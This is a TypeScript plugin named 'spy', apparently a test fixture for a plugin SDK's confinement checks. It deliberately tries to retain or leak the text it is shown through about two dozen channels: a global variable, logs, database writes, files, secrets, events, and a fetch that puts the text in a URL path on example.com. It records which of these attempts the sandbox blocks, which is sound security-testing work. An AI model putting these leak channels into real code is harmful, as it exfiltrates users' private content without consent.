import { collection, defineError, definePlugin, pluginKit, Type, type Context } from '@proofpix/sdk';
import { fencing, spying } from './contract.ts';

const collections = { notes: collection({ schema: Type.Object({ text: Type.String() }) }) };
const services = { fence: fencing };
const kit = pluginKit({ collections, services });
const { provide, route, job } = kit;
type Spy = typeof kit.Context;

const memory = globalThis as { stolen?: string };

/** Everything that could keep a text or carry it out. */
const attempts: Record<string, (ctx: Spy, text: string, file: string) => Promise<unknown>> = {
  insert: (ctx, text) => ctx.db.notes.insert({ text }),
  insertMany: (ctx, text) => ctx.db.notes.insertMany([{ text }]),
  update: (ctx, text) => ctx.db.notes.update({}, { text }),
  upsert: (ctx, text) => ctx.db.notes.upsert({ text }, ['text'] as never),
  delete: (ctx) => ctx.db.notes.delete({}),
  transaction: (ctx, text) => ctx.db.transaction((tx) => tx.db.notes.insert({ text })),
  sql: (ctx, text) => ctx.sql`insert into notes (text) values (${text})`,
  kvSet: (ctx, text) => ctx.kv.set('note', text),
  kvIncrement: (ctx, text) => ctx.kv.increment('count', text.length),
  kvDelete: (ctx) => ctx.kv.delete('note'),
  fileWrite: (ctx, text) => ctx.files.write(new TextEncoder().encode(text)),
  fileKeep: (ctx, _text, file) => ctx.files.keep(file),
  fileShare: (ctx, _text, file) => ctx.files.share(file, { ttlSeconds: 60 }),
  scratch: (ctx) => ctx.scratch.create({ ttlSeconds: 60 }),
  scratchKeep: (ctx, _text, file) => ctx.scratch.keep(file, { ttlSeconds: 60 }),
  event: (ctx, text) => ctx.events.emit('spy.told', { text }),
  job: (ctx, text) => ctx.jobs.send('tell', { text }),
  realtime: (ctx, text) => ctx.realtime.publish({ tenant: true }, 'spy:told', { text }),
  fetch: (ctx, text) => ctx.fetch(`https://example.com/${text}`),
  secret: (ctx, text) => ctx.secrets.set('diary', text),
  audit: (ctx, text) => ctx.auth.audit({ action: 'told', target: text }),
  link: (ctx, text) => ctx.links.sign({ purpose: 'tell', id: text }),
  accomplice: (ctx, text) => ctx.services.fence.take({ text }),
  hook: (ctx, text) => ctx.hooks.run('spy.seen', { text }),
};

async function outcome(attempt: () => Promise<unknown>): Promise<string> {
  try {
    await attempt();
    return 'done';
  } catch (error) {
    const { code, details } = error as { code?: string; details?: { capability?: string } };
    return `${code} ${details?.capability ?? ''}`.trim();
  }
}

async function textOf(ctx: Context, file: string): Promise<string> {
  let text = '';
  for await (const chunk of ctx.files.read(file)) text += new TextDecoder().decode(chunk);
  return text;
}

export default definePlugin({
  id: 'spy',
  version: '1.0.0',
  title: 'Spy',
  description: 'Tries to keep what it is shown.',
  capabilities: ['files:read', 'files:write', 'scratch', 'db:sql', 'jobs', 'realtime', 'net:public', 'events:emit:spy.*'],
  dependencies: { fence: { range: '^1.0.0' } },
  services,
  collections,
  secrets: { diary: { title: 'Diary', hosts: ['example.com'] } },
  events: { 'spy.told': { schema: Type.Object({ text: Type.String() }), public: true } },
  hookPoints: { 'spy.seen': { schema: Type.Object({ text: Type.String() }) } },
  parts: [
    provide(spying, {
      async look(ctx, { file, text }) {
        memory.stolen = text;
        ctx.log.error(text, { text });
        ctx.metrics.count('seen_total', 1, { text });
        const found: Record<string, string> = {};
        for (const [name, attempt] of Object.entries(attempts)) found[name] = await outcome(() => attempt(ctx, text, file));
        return { confined: ctx.confined, text: await textOf(ctx as unknown as Context, file), attempts: found };
      },
      shout(_ctx, { text }) {
        if (!text.startsWith('as a')) throw new Error(text);
        throw defineError({ code: text.toUpperCase().replaceAll(/\W/g, '_'), kind: text.startsWith('as a code') ? 'internal' : 'unavailable', message: text })();
      },
    }),
    job('tell', { schema: Type.Object({ text: Type.String() }), retryLimit: 0, retryDelaySeconds: 0, timeoutMs: 1000, handler: async () => undefined }),
    route({ name: 'notes', method: 'GET', path: '/api/spy/notes', access: 'tenant', handler: async (ctx) => ({ notes: await ctx.db.notes.count(), note: await ctx.kv.get('note'), count: await ctx.kv.get('count'), stolen: memory.stolen ?? null }) }),
    route({ name: 'read', method: 'POST', path: '/api/spy/read', access: 'tenant', body: { json: Type.Object({ file: Type.String() }) }, handler: async (ctx, { body }) => ({ text: await textOf(ctx as unknown as Context, body.file) }) }),
  ],
});
